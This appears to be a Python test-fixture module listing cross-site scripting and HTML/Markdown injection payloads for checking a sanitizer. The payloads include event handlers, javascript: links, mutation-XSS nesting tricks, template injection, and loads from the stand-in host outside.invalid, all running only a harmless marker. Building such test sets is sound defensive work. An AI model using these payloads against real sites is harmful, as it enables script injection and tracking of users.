"""Texts that try to run a script, to load something, or to lead somewhere else."""

from __future__ import annotations

from typing import Final

RUN: Final = "window.pwned=1"
AWAY: Final = "http://outside.invalid"
_EVENTS: Final = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "oninput"),
    *("onanimationstart", "ontoggle", "onpointerenter", "onwheel", "onbegin"),
)
_TAGS: Final = ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus")
_LINKS: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"//{AWAY.removeprefix('http://')}",
)
_WHOLE: Final = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}/x.js></script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<iframe src={AWAY}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import '{AWAY}/x.css';</style>",
    f"<style>body{{background:url({AWAY}/x.png)}}</style>",
    f"<p style=\"background:url('{AWAY}/y.png')\">styled</p>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f"<base href={AWAY}>",
    f"<form action={AWAY}><button>go</button></form>",
    f"<img src={AWAY}/pixel.png>",
    f"<img srcset='{AWAY}/a.png 1x'>",
    f"<picture><source srcset={AWAY}/b.png><img></picture>",
    f"<video poster={AWAY}/p.png><source src={AWAY}/v.mp4></video>",
    f"<audio src={AWAY}/a.mp3 autoplay></audio>",
    f"<svg><image href={AWAY}/i.svg /></svg>",
    f"<svg><use href={AWAY}/u.svg#x /></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<math><a xlink:href="javascript:{RUN}">x</a></math>',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"![picture]({AWAY}/md.png)",
    f"![x](x 'onerror={RUN}')",
    f"[![inner]({AWAY}/in.png)](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[ref]: javascript:{RUN}\n\n[ref]",
    f"`<script>{RUN}</script>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | x |",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "\u202e\u2066<b>direction\u2069",
    f'"><script>{RUN}</script>',
    f"' onmouseover={RUN} x='",
)
PAYLOADS: Final = (
    *_WHOLE,
    *(f"<{tag} {event}={RUN}>" for tag in _TAGS for event in _EVENTS),
    *(f"[link]({link})" for link in _LINKS),
    *(f'<a href="{link}">link</a>' for link in _LINKS),
)
